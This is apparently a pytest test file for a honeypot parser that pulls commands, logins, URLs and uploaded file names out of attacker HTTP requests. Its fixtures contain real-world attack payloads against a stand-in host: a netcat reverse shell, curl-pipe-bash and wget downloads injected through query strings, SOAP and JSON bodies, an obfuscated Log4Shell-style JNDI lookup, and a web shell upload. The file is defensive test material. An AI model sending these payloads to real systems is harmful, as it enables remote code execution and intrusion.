"""HTTP requests as attackers write them."""

import pytest

from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.protocol import Credential
from honeyguide.streams.protocols.http import PROTOCOL, request_line


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (b"GET / HTTP/1.1\r\n", ("GET", "/", "1.1")),
        (b"GET login.cgi HTTP/1.1\r\n", ("GET", "login.cgi", "1.1")),
        (b"GET /a b c HTTP/1.0\n", ("GET", "/a b c", "1.0")),
        (b"POST  /x  HTTP/1.1", ("POST", "/x", "1.1")),
        (b"GET /old\r\n", ("GET", "/old", "0.9")),
        (b"OPTIONS * HTTP/1.1\r\n", ("OPTIONS", "*", "1.1")),
        (b"GET http://x/ HTTP/1.1\r\n", ("GET", "http://x/", "1.1")),
        (b"OPTIONS / RTSP/1.0\r\n", None),
        (b"OPTIONS sip:nm SIP/2.0\r\n", None),
        (b"HELP\r\n", None),
        (b"", None),
    ],
)
def test_request_lines(line: bytes, expected: tuple[str, str, str] | None) -> None:
    assert request_line(line) == expected


def test_a_command_in_a_parameter_is_a_command() -> None:
    one = PROTOCOL.decode(Conversation((Turn("in", b"GET /set_ftp.cgi?svr=%24%28nc+192.0.2.7+1245+-e+%2Fbin%2Fsh%29 HTTP/1.1\n\n"),)))
    assert one.commands == ("$(nc 192.0.2.7 1245 -e /bin/sh)",)


def test_a_command_in_a_soap_body_is_a_command_with_its_download() -> None:
    body = b"<u:Add><NewClient>`cd /tmp; wget http://192.0.2.7/m -O m`</NewClient></u:Add>"
    one = PROTOCOL.decode(Conversation((Turn("in", b"POST /x.xml HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(body) + body),)))
    assert one.commands == ("`cd /tmp; wget http://192.0.2.7/m -O m`",)
    assert "http://192.0.2.7/m" in one.urls


def test_every_login_in_a_request_is_told() -> None:
    data = b"POST /?user=a&pass=b HTTP/1.1\r\nAuthorization: Basic YWRtaW46cHc=\r\nContent-Length: 14\r\n\r\nlog=c&pwd=d%21"
    one = PROTOCOL.decode(Conversation((Turn("in", data),)))
    assert one.credentials == (Credential("admin", "pw"), Credential("a", "b"), Credential("c", "d!"))


def test_a_broken_basic_login_is_kept_as_it_is() -> None:
    one = PROTOCOL.decode(Conversation((Turn("in", b"GET / HTTP/1.1\r\nAuthorization: Basic !!!\r\n\r\n"),)))
    assert one.credentials == (Credential("", "!!!"),)


def test_requests_in_a_row_and_what_follows_them() -> None:
    one = PROTOCOL.decode(Conversation((Turn("in", b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\nHELP\r\n"),)))
    assert [message.title for message in one.messages][:2] == ["GET /a HTTP/1.1", "GET /b HTTP/1.1"]
    assert one.problem == "in, byte 44: more bytes, and no further request"


def test_uploaded_files_are_named() -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php ?>\r\n--x--'
    head = b"POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: %d\r\n\r\n" % len(body)
    assert PROTOCOL.decode(Conversation((Turn("in", head + body),))).files == ("shell.php",)


def test_answers_end_where_they_say() -> None:
    answers = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 404 No\r\n\r\n"
    one = PROTOCOL.decode(Conversation((Turn("in", b"GET / HTTP/1.1\r\n\r\n" * 2), Turn("out", answers))))
    assert [message.title for message in one.messages if message.direction == "out"] == ["HTTP/1.1 200 OK", "HTTP/1.1 404 No"]
    assert one.fields["http.response.status_code"] == 200


def test_a_claim_of_more_than_there_is_is_said() -> None:
    one = PROTOCOL.decode(Conversation((Turn("in", b"POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\nabc"),)))
    assert "bytes of the message are missing" in one.problem


def test_a_command_in_json_is_a_command_and_lists_of_arguments_are_joined() -> None:
    body = (
        b'{"am-container-spec":{"commands":{"command":"curl http://192.0.2.7/z.sh | bash"}},"Cmd":["sh","-c","id; wget 192.0.2.7/x"],"n":1}'
    )
    said = PROTOCOL.decode(Conversation((Turn("in", b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 129\r\n\r\n" + body),)))
    assert said.commands == ("curl http://192.0.2.7/z.sh | bash", "sh -c id; wget 192.0.2.7/x")
    assert "http://192.0.2.7/z.sh" in said.urls


def test_broken_and_endless_json_is_no_command() -> None:
    for body in (b'{"a": "b; sh', b"[" * 100_000, b'{"a":' * 5000):
        assert PROTOCOL.decode(Conversation((Turn("in", b"POST / HTTP/1.1\r\n\r\n" + body),))).commands == ()


def test_a_whole_query_may_be_the_command() -> None:
    said = PROTOCOL.decode(Conversation((Turn("in", b"GET /shell?cd+/tmp;wget+192.0.2.7/x;sh+x HTTP/1.1\r\n\r\n"),)))
    assert said.commands == ("cd /tmp;wget 192.0.2.7/x;sh x",)


def test_a_digest_login_has_its_user_and_response() -> None:
    line = b'GET / HTTP/1.1\r\nAuthorization: Digest username="root", realm="r", nonce="n", uri="/", response="aabb"\r\n\r\n'
    assert PROTOCOL.decode(Conversation((Turn("in", line),))).credentials == (Credential("root", "aabb", "digest"),)


def test_what_a_lookup_asks_its_server_for_is_told() -> None:
    line = b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://192.0.2.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi43L3g=}\r\n\r\n"
    said = PROTOCOL.decode(Conversation((Turn("in", line),)))
    assert said.commands == ("wget http://192.0.2.7/x",)
    assert said.urls[0].startswith("ldap://192.0.2.7:1389/Basic/")
    assert "http://192.0.2.7/x" in said.urls
